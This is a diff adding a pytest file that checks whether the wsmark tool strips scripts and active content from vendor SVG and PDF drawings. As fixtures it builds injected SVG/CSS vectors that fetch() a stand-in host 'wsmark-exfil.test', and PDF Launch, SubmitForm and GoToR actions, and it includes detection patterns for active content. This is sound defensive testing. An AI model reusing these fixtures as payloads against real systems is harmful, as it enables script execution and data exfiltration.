@@ -1,0 +1,172 @@
+"""Nothing active survives into what wsmark writes from a vendor's drawing (issue 32).
+
+The reproducers of found/turn4 (tests/data/hostile), 38 known SVG/CSS script and
+exfiltration vectors (tests/hostile_vectors.py) through the sanitiser and through ``wsmark
+fix`` and ``check --annotate``, PDFs with every kind of action, and every output opened in
+Chromium with the network watched: the untouched vendor file is opened too, so the test
+shows that the watch sees what runs and fetches."""
+
+from __future__ import annotations
+
+import io
+from base64 import b64decode
+import re
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import pypdf
+import pytest
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    StreamObject,
+    TextStringObject,
+)
+
+from hostile_vectors import VECTORS
+from markers import api
+from markers.core.clean_svg import clean_css, clean_svg_bytes, decoded_css
+from render.pdf import active_content
+
+DATA = Path(__file__).resolve().parents[1] / "data" / "hostile"
+HOST = "wsmark-exfil.test"
+URL = f"http://{HOST}"
+JS = f"fetch('{URL}/script-ran')"
+SVG_NS = "{http://www.w3.org/2000/svg}"
+
+
+def _vendor(fragments: list[str]) -> bytes:
+    """The turn-4 proof (a 24 in control sign from CorelDRAW) without its own vectors,
+    with ``fragments`` inside its root."""
+    text = (DATA / "fix-frame-js.svg").read_text()
+    text = "\n".join(line for line in text.splitlines()
+                     if "h:frame" not in line and "h:img" not in line and "75rl" not in line)
+    head, _, rest = text.partition("<defs>")
+    return (head + "\n".join(fragments) + "\n<defs>" + rest).encode()
+
+
+def _fragment(vector: str) -> str:
+    return vector.replace("{url}", URL).replace("{js}", JS).replace("{{", "{") \
+        .replace("}}", "}")
+
+
+def _active(svg: bytes) -> list[str]:
+    """What in ``svg`` could run or fetch: the listener's host, a script scheme, a
+    scripting element, an event attribute, a foreign element, an escape in CSS; and the
+    same in every SVG picture (``data:``) inside it."""
+    text = svg.decode("utf-8")
+    pictures = re.findall(r"data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)", text)
+    found = [word for word in (HOST, "javascript:", "srcset", "@import", "\\")
+             if word in text]
+    root = ET.fromstring(svg)
+    for node in root.iter():
+        tag = node.tag if isinstance(node.tag, str) else ""
+        if not tag.startswith(SVG_NS):
+            found.append(f"element {tag}")
+        elif tag[len(SVG_NS):] in ("script", "foreignObject", "animate", "set", "handler",
+                                   "feImage", "cursor"):
+            found.append(f"element {tag}")
+        found += [f"attribute {key}" for key in node.attrib if key.lower().startswith("on")]
+        if tag == f"{SVG_NS}style" and re.search(r"url\((?!#)|@", node.text or ""):
+            found.append("style fetches")
+    return found + [f"picture: {f}" for data in pictures for f in _active(b64decode(data))]
+
+
+@pytest.mark.parametrize("name,vector,source", VECTORS, ids=[v[0] for v in VECTORS])
+def test_sanitiser_removes_each_vector(name, vector, source):
+    raw = _vendor([_fragment(vector)])
+    assert _active(raw), f"{name} ({source}) is not active before cleaning"
+    cleaned = clean_svg_bytes(raw)
+    assert _active(cleaned) == [], name
+    # the drawing itself is kept: its orange ring and lettering
+    assert cleaned.count(b"<path") == raw.count(b"<path") - vector.count("<path")
+
+
+def test_css_escapes_decoded_before_the_test():
+    assert decoded_css(r"\75rl(") == "url("
+    assert decoded_css(r"@\69mport") == "@import"
+    assert decoded_css("u/**/rl(") == "u rl("
+    assert decoded_css(r"\000075 rl(") == "url("
+    assert clean_css(r".a{fill:\75rl(http://x/y)} .b{fill:u\rl(#g)}") == ".a{}\n.b{fill:url(#g)}"
+    assert clean_css(r"@\69mport 'http://x/a.css'; .c{stroke:red}") == ".c{stroke:red}"
+    assert clean_css("@media print { .d { fill: green } } .e{fill:red}") == ".e{fill:red}"
+
+
+def test_fix_reproducer_frame_js_and_css_escapes():
+    """found/turn4/fix-frame-js.svg: the frame, the img and the escaped url() are gone
+    from the fixed SVG, which still passes."""
+    raw = (DATA / "fix-frame-js.svg").read_bytes()
+    assert "element" in " ".join(_active(raw))
+    fixed = api.fix(raw, "fix-frame-js.svg", ".svg", api.CheckOptions(display_height=24))
+    assert fixed.data is not None
+    assert _active(fixed.data) == []
+    assert b"127.0.0.1:18777" not in fixed.data
+    report, _ = api.check(fixed.data, "fixed.svg")
+    assert report.verdict == "pass"
+
+
+def test_fix_and_annotate_carry_no_vector():
+    """Every vector at once in one proof: fix's SVG and PDF, and the marked copies as SVG
+    (the vendor's drawing is a data: picture inside, itself cleaned) hold none of them."""
+    raw = _vendor([_fragment(v) for _, v, _ in VECTORS])
+    options = api.CheckOptions(display_height=24)
+    fixed = api.fix(raw, "all-vectors.svg", ".svg", options, overlay=True)
+    assert fixed.data is not None and _active(fixed.data) == []
+    for copy in [*fixed.overlay, *fixed.marked]:
+        assert b"data:image/svg+xml;base64," in copy  # the vendor's drawing, pictured
+        assert _active(copy) == []
+    as_pdf = api.fix(raw, "all-vectors.svg", ".pdf", options)
+    assert as_pdf.data is not None and active_content(as_pdf.data) == []
+    assert HOST.encode() not in as_pdf.data
+
+
+def _pdf_with(actions: bool = True) -> bytes:
+    """The turn-4 PDF proof with more active content: an embedded file, a Launch and a
+    SubmitForm link, a GoToR, a RichMedia-free document JavaScript name tree."""
+    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(DATA / "fix-keeps-pdf-javascript.pdf"))
+    page = writer.pages[0]
+    annots = page.get("/Annots") or ArrayObject()
+    for kind, extra in (("/Launch", {"/F": TextStringObject("calc.exe")}),
+                        ("/SubmitForm", {"/F": TextStringObject(f"{URL}/submit")}),
+                        ("/GoToR", {"/F": TextStringObject(f"{URL}/remote.pdf")})):
+        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+        action.update({NameObject(k): v for k, v in extra.items()})
+        annot = DictionaryObject({
+            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0),
+                                              NumberObject(500), NumberObject(500)]),
+            NameObject("/A"): action})
+        annots.append(writer._add_object(annot))
+    page[NameObject("/Annots")] = annots
+    stream = StreamObject()
+    stream.set_data(b"secret")
+    writer.add_attachment("exfil.txt", b"secret")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def test_fix_reproducer_pdf_javascript_and_more_actions():
+    """found/turn4/fix-keeps-pdf-javascript.pdf (page /AA, JavaScript and URI links, a
+    document /OpenAction), and the same proof with Launch, SubmitForm and GoToR links and
+    an embedded file: the fixed PDF holds none of it, and still passes."""
+    for raw in ((DATA / "fix-keeps-pdf-javascript.pdf").read_bytes(), _pdf_with()):
+        before = active_content(raw)
+        assert any("/AA" in f for f in before) and any("/Annots" in f for f in before)
+        fixed = api.fix(raw, "vendor.pdf", ".pdf")
+        assert fixed.data is not None
+        assert active_content(fixed.data) == []
+        for word in (b"/JavaScript", b"/URI", b"/Launch", b"/SubmitForm", b"/GoToR",
+                     b"/EmbeddedFile", b"calc.exe", b"secret"):
+            assert word not in fixed.data, word
+        assert api.check(fixed.data, "fixed.pdf")[0].verdict == "pass"
+
+
+def test_pdf_active_content_found_in_each_form():
+    """The test's own eye (render.pdf.active_content) sees each kind it is asked about."""
+    found = " ".join(active_content(_pdf_with()))
+    for word in ("/AA", "/OpenAction", "/Annots", "/Names", "action /Launch",
+                 "action /SubmitForm", "action /GoToR", "/EmbeddedFile"):
+        assert word in found, word
